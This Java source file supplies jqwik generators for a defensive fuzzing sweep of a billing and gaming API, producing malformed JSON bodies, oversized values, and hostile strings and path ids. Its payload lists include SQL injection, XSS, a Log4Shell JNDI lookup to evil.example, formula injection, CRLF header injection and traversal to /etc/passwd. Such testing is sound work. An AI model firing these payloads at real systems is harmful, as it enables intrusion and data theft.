package io.playbill.infra.standalone;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;

/**
 * The hostile sweep's raw material, as jqwik arbitraries: text an attacker types (injections, control characters,
 * lone surrogates, emoji, lengths at and over every limit), JSON values of every wrong type and size, bodies built
 * from an endpoint's fields with their shape broken in every way a parser meets, query strings and path ids
 * percent-encoded or raw.
 */
final class HostileInputs {

    private HostileInputs() {
    }

    // ---------------------------------------------------------------------------------------------------------- text

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE account; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)", "$$;--",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
            "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "a\r\nX-Injected: 1", "%0d%0aSet-Cookie: x=1", "${jndi:ldap://evil.example/x}", "{{7*7}}", "#{7*7}",
            "%s%s%s%n", "../../../etc/passwd", "..\\..\\windows\\win.ini", "null", "undefined", "NaN", "-0", "0x10",
            "1e309", "true", "__proto__", "constructor", "*", "%", "_", "\\", "\"", "'", "`");
    static final List<String> CONTROL = List.of(
            "\u0000", "a\u0000b", "\r\n", "line\nbreak", "\t", "\u007f", "\u0085", "\u009b", "\u2028", "\u2029",
            "\u001b[31mred", "\b\f", "\u0001\u0002\u0003");
    static final List<String> SURROGATES = List.of("\uD800", "\uDFFF", "a\uD83Cb", "\uDE00\uD83D", "\uDBFF\uDBFF");
    static final List<String> UNICODE = List.of(
            "\uD83C\uDFAE", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\uD83C\uDDFA\uD83C\uDDF3", "zo\u00EB",
            "\u03A9\u2248\u00E7\u221A", "\u4E2D\u6587", "e\u0301", "\uFF46\uFF55\uFF4C\uFF4C", "\u202Egnp.exe",
            "\uFEFFbom", "\u200B", "\uFFFD", "\uFFFF", "\u0130stanbul", "\u00DF");

    /** Text an attacker would try, in any field or parameter. */
    static Arbitrary<String> hostileText() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(INJECTIONS)),
                Tuple.of(3, Arbitraries.of(CONTROL)),
                Tuple.of(2, Arbitraries.of(SURROGATES)),
                Tuple.of(3, Arbitraries.of(UNICODE)),
                Tuple.of(2, longText()),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(24)),
                Tuple.of(2, Arbitraries.strings().ascii().ofMaxLength(24)));
    }

    /** Lengths at and just over the limits the API documents (64, 200, 1024 characters, 8 KiB). */
    static Arbitrary<String> longText() {
        return Combinators.combine(Arbitraries.of("a", "\u00E9", "\uD83C\uDFAE", "%", "'"),
                Arbitraries.of(64, 65, 200, 201, 1024, 1025, 8 * 1024 + 1)).as((unit, n) -> unit.repeat(n));
    }

    // ---------------------------------------------------------------------------------------------------- JSON values

    static final List<String> HOSTILE_NUMBERS = List.of(
            "0", "-0", "1", "-1", "10.5", "10.0", "1e3", "1E+2", "-1e-7", "1000000000000", "1000000000001",
            "-1000000000001", "2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
            "123456789012345678901234567890", "1e400", "0.1e-400", "00", "01", "+1", ".5", "NaN", "Infinity",
            "-Infinity", "0x10");
    static final List<String> HOSTILE_LITERALS = List.of(
            "true", "false", "null", "nul", "True", "[]", "{}", "[1,2]", "{\"a\":1}", "[null]", "\"\"");

    /** A JSON value (as text, sometimes not valid JSON) of any type and size. */
    static Arbitrary<String> hostileJson() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, hostileText().map(HostileInputs::jsonString)),
                Tuple.of(3, Arbitraries.of(HOSTILE_NUMBERS)),
                Tuple.of(2, Arbitraries.of(HOSTILE_LITERALS)),
                Tuple.of(1, deepJson()));
    }

    /** Arrays or objects nested beyond any sensible depth (Jackson refuses more than 1000 levels). */
    static Arbitrary<String> deepJson() {
        return Combinators.combine(Arbitraries.of(16, 999, 1001, 3000), Arbitraries.of(true, false))
                .as((depth, arrays) -> arrays ? "[".repeat(depth) + "]".repeat(depth)
                        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
    }

    /**
     * A JSON string literal of {@code text}: quotes, backslashes, control characters and unpaired surrogates escaped
     * as {@code \\uXXXX}, so the server receives exactly this text (a lone surrogate cannot be sent in UTF-8).
     */
    static String jsonString(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean paired = Character.isHighSurrogate(c) && i + 1 < text.length()
                    && Character.isLowSurrogate(text.charAt(i + 1));
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || (Character.isSurrogate(c) && !paired)) {
                out.append(String.format("\\u%04x", (int) c));
            } else if (paired) {
                out.append(c).append(text.charAt(++i));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    // ------------------------------------------------------------------------------------------------------- fields

    /** What a body field or query parameter holds, with the values its rule takes and values it must refuse. */
    enum Rule {
        SESSION(quoted("s1", "abc123", "A".repeat(64)),
                quoted("", "a b", "s-1", "A".repeat(65), "zo\u00EB", "s\u0000", "s;1", "../s")),
        QUEUE(quoted("standard", "premium"), quoted("", "nope", "standard ", "STANDARD", "q\u0000")),
        LAST_DEADLINE(List.of("0", "30", "1000000000"), List.of("-1", "1000000001", "1.5", "\"0\"", "null")),
        /** Deposits and refunds: 1 to 10^12. */
        AMOUNT_POSITIVE(List.of("1", "1000"), List.of(
                "0", "-0", "-1", "-1000000000000", "1000000000001", "9223372036854775807", "9223372036854775808",
                "-9223372036854775809", "1e3", "10.5", "10.0", "1.0e2", "\"10\"", "true", "null", "[]", "{}",
                "[10]", "1e400", "123456789012345678901234567890")),
        /** Adjustments: any non-zero amount within ±10^12. */
        AMOUNT_NON_ZERO(List.of("-5", "5"), List.of(
                "0", "-0", "1000000000001", "-1000000000001", "9223372036854775808", "1e3", "-10.5", "\"-5\"",
                "false", "null", "[]", "{\"amount\":5}")),
        /** Prices: 0 to 10^12 per minute. */
        PRICE(List.of("0", "60"), List.of(
                "-1", "-0.5", "1000000000001", "9223372036854775808", "60.0", "6e1", "\"60\"", "true", "null", "[]",
                "{}")),
        REFERENCE(quoted("ref-1", "a:b.c_d", "R".repeat(64)), quoted(
                "", " ", "a b", "R".repeat(65), "ref/1", "' OR '1'='1", "<script>", "=1+2", "ref\r\nX-Injected: 1",
                "r\u00E9f", "\uD83C\uDFAE", "r\u0000", "\uD800", "a\tb", "ref;1", "ref%00"),
                List.of("42", "true", "null", "[]", "{}")),
        REASON(quoted("goodwill", "=HYPERLINK(\"x\")", "'; DROP TABLE statement_line; --", "\uD83C\uDFAE"),
                quoted("", "   ", "r".repeat(201), "a\u0000b", "line\r\nbreak", "\u0085", "tab\there", "\u007f",
                        "\uD83C", "\uDFAE", "\n"),
                List.of("42", "false", "null", "[]", "{}")),
        CLIENT_SESSION(quoted("eyJ4IjoxfQ==", "Y3M", "YQ_-"), quoted("", "not base64!", "====", "a".repeat(61441))),
        GAME_ID(quoted("game-1", "game.2_x"), quoted("", "game 1", "g".repeat(65), "game/1")),
        REGION(quoted("ap-guangzhou", "ap-shanghai"), quoted("AP-GUANGZHOU", "", "r".repeat(33))),
        GROUP_ID(quoted("grp-1"), quoted("", "grp 1")),
        RESOLUTION(quoted("1080p", "720p", "1920x1080"), quoted("4k", "0x0", "1920x", "99999x99999")),
        GAME_PARAS(quoted("-level 3", ""), quoted("p".repeat(1025), "a\u0000b")),
        IMAGE_URL(quoted("https://cdn.example/bg.png"), quoted("javascript:alert(1)", "http://a b", "ftp://x")),
        BITRATE(List.of("1", "100"), List.of("0", "101", "-1", "1.5", "\"10\"")),
        FPS(List.of("30", "60", "144"), List.of("0", "59", "1000", "60.0")),
        /** The dev sign-in's user: the rule of {@code {userId}} in admin paths. */
        USER_ID(quoted("sweep-dev", "a@b.c"), quoted("", "a b", "u".repeat(65), "u\u0000", "zo\u00EB", "../u")),
        ROLES(List.of("[]", "[\"admin\"]", "[\"finance\",\"admin\"]", "null"),
                List.of("[\"root\"]", "[\"ADMIN\"]", "[\"admin\",\"\"]")),
        /** Demo fields the gateway ignores or only echoes (UserId, RequestId, Sign, TimeStamp). */
        FREE(quoted("req-1", "alice"), List.of());

        private final List<String> valid;
        private final List<String> refused;

        Rule(List<String> valid, List<String> refused) {
            this(valid, refused, List.of());
        }

        Rule(List<String> valid, List<String> refused, List<String> refusedTypes) {
            this.valid = valid;
            this.refused = new ArrayList<>(refused);
            this.refused.addAll(refusedTypes);
        }

        Arbitrary<String> valid() {
            return Arbitraries.of(valid);
        }

        /** Values this rule refuses (the API's documented rule, not a guess); empty for free fields. */
        Arbitrary<String> refused() {
            return refused.isEmpty() ? hostileJson() : Arbitraries.of(refused);
        }

        boolean canBeRefused() {
            return !refused.isEmpty();
        }

        private static List<String> quoted(String... texts) {
            return java.util.Arrays.stream(texts).map(HostileInputs::jsonString).toList();
        }
    }

    /** A field of an endpoint's JSON body; {@code checked}: the endpoint refuses a body whose value breaks the rule. */
    record Field(String name, Rule rule, boolean required) {

        static Field required(String name, Rule rule) {
            return new Field(name, rule, true);
        }

        static Field optional(String name, Rule rule) {
            return new Field(name, rule, false);
        }
    }

    // -------------------------------------------------------------------------------------------------------- bodies

    /**
     * One member of a generated JSON object, {@code json} null when it is left out; {@code refused} when its value
     * (or its absence) breaks the field's rule.
     */
    record Member(String key, String json, boolean refused) {

        boolean present() {
            return json != null;
        }
    }

    /** How the members are put on the wire. Everything but {@code OBJECT} and {@code PADDED} is not one JSON object. */
    enum Shape {
        OBJECT, PADDED, DEEP_MEMBER, DUPLICATE_KEY, TRAILING_DATA, ARRAY, TRUNCATED, RAW_CONTROL, INVALID_UTF8, FORM,
        MULTIPART, EMPTY, WHITESPACE, NULL_LITERAL, BINARY
    }

    /** A generated body: its bytes and what went into it. */
    record Body(byte[] bytes, Shape shape, List<Member> members) {

        /** Whether the endpoint's rules refuse it whatever the headers say: a field breaks its rule. */
        boolean breaksAField() {
            return members.stream().anyMatch(Member::refused);
        }

        @Override
        public String toString() {
            String text = new String(bytes, StandardCharsets.UTF_8);
            return shape + " (" + bytes.length + " bytes) " + (text.length() > 300 ? text.substring(0, 300) + "…" : text);
        }
    }

    /**
     * Bodies for an endpoint with these fields. With {@code mustBreak} (money and prices) one checked field always
     * breaks its rule, so no generated body can be a valid money movement: the sweep may aim it at the canary.
     */
    static Arbitrary<Body> bodies(List<Field> fields, boolean mustBreak, int limit) {
        Arbitrary<List<Member>> members = members(fields, mustBreak);
        Arbitrary<List<Member>> junk = Combinators.combine(hostileText(), hostileJson())
                .as((key, value) -> new Member(key, value, false)).list().ofMaxSize(3);
        Arbitrary<Shape> shapes = Arbitraries.frequency(
                Tuple.of(30, Shape.OBJECT), Tuple.of(4, Shape.PADDED), Tuple.of(2, Shape.DEEP_MEMBER),
                Tuple.of(3, Shape.DUPLICATE_KEY), Tuple.of(3, Shape.TRAILING_DATA), Tuple.of(2, Shape.ARRAY),
                Tuple.of(2, Shape.TRUNCATED), Tuple.of(2, Shape.RAW_CONTROL), Tuple.of(2, Shape.INVALID_UTF8),
                Tuple.of(2, Shape.FORM), Tuple.of(2, Shape.MULTIPART), Tuple.of(1, Shape.EMPTY),
                Tuple.of(1, Shape.WHITESPACE), Tuple.of(1, Shape.NULL_LITERAL), Tuple.of(1, Shape.BINARY));
        Arbitrary<Integer> paddedSizes = Arbitraries.of(limit - 1, limit, limit + 1, 65_536, 65_537, 200_000);
        Arbitrary<byte[]> binary = Arbitraries.bytes().array(byte[].class).ofMaxSize(64);
        return Combinators.combine(members, junk, shapes, paddedSizes, binary)
                .as((fieldMembers, junkMembers, shape, padTo, bytes) -> {
                    List<Member> all = new ArrayList<>(fieldMembers);
                    all.addAll(junkMembers);
                    return new Body(render(all, shape, padTo, bytes), shape, all);
                });
    }

    private static Arbitrary<List<Member>> members(List<Field> fields, boolean mustBreak) {
        List<Field> breakable = fields.stream().filter(f -> f.rule().canBeRefused()).toList();
        Arbitrary<Integer> broken = mustBreak ? Arbitraries.integers().between(0, breakable.size() - 1)
                : Arbitraries.just(-1);
        return broken.flatMap(index -> Combinators.combine(fields.stream()
                .map(field -> member(field, index >= 0 && breakable.get(index) == field)).toList()).as(list -> list));
    }

    private static Arbitrary<Member> member(Field field, boolean mustBreak) {
        Arbitrary<Member> refused = field.rule().refused()
                .map(json -> new Member(field.name(), json, field.rule().canBeRefused()));
        Arbitrary<Member> absent = Arbitraries.just(new Member(field.name(), null, field.required()));
        if (mustBreak) {
            return field.required() ? Arbitraries.frequencyOf(Tuple.of(5, refused), Tuple.of(1, absent)) : refused;
        }
        Arbitrary<Member> valid = field.rule().valid().map(json -> new Member(field.name(), json, false));
        // A hostile value may happen to be valid: it counts as refused only when it is one of the rule's refusals.
        Arbitrary<Member> hostile = hostileJson().map(json -> new Member(field.name(), json, false));
        return Arbitraries.frequencyOf(Tuple.of(5, valid), Tuple.of(3, refused), Tuple.of(3, hostile),
                Tuple.of(1, absent));
    }

    private static byte[] render(List<Member> all, Shape shape, int padTo, byte[] binary) {
        List<Member> members = all.stream().filter(Member::present).toList();
        String object = object(members);
        String text = switch (shape) {
            case OBJECT -> object;
            case PADDED -> padded(members, padTo);
            case DEEP_MEMBER -> object(append(members, new Member("deep", "[".repeat(3000) + "]".repeat(3000), false)));
            case DUPLICATE_KEY -> members.isEmpty() ? "{\"a\":1,\"a\":2}" : object(append(members, members.get(0)));
            case TRAILING_DATA -> object + " {\"amount\":1}";
            case ARRAY -> "[" + object + "]";
            case TRUNCATED -> object.substring(0, object.length() / 2);
            case RAW_CONTROL -> object.replaceFirst("\"", "\"\u0000\u001f");
            case FORM -> members.stream().map(m -> encode(m.key()) + "=" + encode(unquote(m.json())))
                    .collect(Collectors.joining("&"));
            case MULTIPART -> members.stream().map(m -> "--sweep\r\nContent-Disposition: form-data; name=\""
                            + m.key() + "\"\r\n\r\n" + unquote(m.json()) + "\r\n")
                    .collect(Collectors.joining()) + "--sweep--\r\n";
            case EMPTY -> "";
            case WHITESPACE -> " \r\n\t ";
            case NULL_LITERAL -> "null";
            case INVALID_UTF8, BINARY -> null;
        };
        if (shape == Shape.INVALID_UTF8) {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            byte[] start = (object.length() > 1 ? object.substring(0, object.length() - 1) + "," : "{")
                    .getBytes(StandardCharsets.UTF_8);
            bytes.writeBytes(start);
            bytes.writeBytes(new byte[] {'"', 'x', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
            return bytes.toByteArray();
        }
        return shape == Shape.BINARY ? binary : text.getBytes(StandardCharsets.UTF_8);
    }

    /** The object with a filler member that makes it exactly {@code size} bytes (or just the object if larger). */
    private static String padded(List<Member> members, int size) {
        String without = object(append(members, new Member("pad", "\"\"", false)));
        int missing = size - without.getBytes(StandardCharsets.UTF_8).length;
        return missing <= 0 ? without
                : object(append(members, new Member("pad", "\"" + "p".repeat(missing) + "\"", false)));
    }

    private static String object(List<Member> members) {
        return members.stream().map(m -> jsonString(m.key()) + ":" + m.json())
                .collect(Collectors.joining(",", "{", "}"));
    }

    private static List<Member> append(List<Member> members, Member member) {
        List<Member> all = new ArrayList<>(members);
        all.add(member);
        return all;
    }

    private static String unquote(String json) {
        return json.length() >= 2 && json.startsWith("\"") && json.endsWith("\"")
                ? json.substring(1, json.length() - 1) : json;
    }

    // ---------------------------------------------------------------------------------------- query strings and ids

    /** How text goes into a URL: percent-encoded as a client library would, or raw as an attacker may send it. */
    enum Encoding { ENCODED, RAW }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    /** Every byte as {@code %XX}, so nothing is left for a decoder to guess. */
    static String encodeAll(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            out.append(String.format("%%%02X", b & 0xff));
        }
        return out.toString();
    }

    static final List<String> HOSTILE_IDS = List.of(
            "..", ".", "%2e%2e", "%2E%2e%2F", "..%2f", "%00", "a%00b", ";x", "a;jsessionid=1", "%3B", "%2F", "%5C",
            "\\", "%25", "%", "%zz", "%252e%252e", "", " ", "%20", "zo\u00EB", "zo%C3%AB", "\uD83C\uDFAE", "\u202Eevil",
            "*", "~", "$", "{userId}", "-1", "0", "99999999999999999999", "9223372036854775808", "0x1", "null",
            "../../finance/revenue", "..;/..;/prices/standard", "%2e%2e;/x", "admin", "%0d%0aX-Injected:%201",
            "\u0000", "a b", "<script>", "'--", "a".repeat(65), "a".repeat(5000), "a".repeat(9000));

    /** A hostile path segment, already in its wire form. */
    static Arbitrary<String> hostileId() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of(HOSTILE_IDS)),
                Tuple.of(2, hostileText().map(HostileInputs::encodeAll)),
                // Raw, but for what would end the path (and CR, LF: the request line).
                Tuple.of(1, hostileText().map(text -> text.replace("/", "%2F").replace("?", "%3F")
                        .replace("#", "%23").replace("\r", "%0D").replace("\n", "%0A"))));
    }
}
